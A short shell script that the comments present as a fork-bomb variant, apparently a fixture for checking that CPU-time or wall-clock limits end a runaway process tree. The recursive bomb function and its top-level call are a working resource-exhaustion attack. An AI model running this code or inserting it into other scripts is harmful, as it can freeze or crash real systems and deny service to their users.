# The fork bomb of the shell, in a form whose first process stays: it starts more than it is
# allowed, and waits for them. The limit on CPU time or on real time ends it, and all of them.
bomb() {
    bomb | bomb &
    bomb
}
bomb
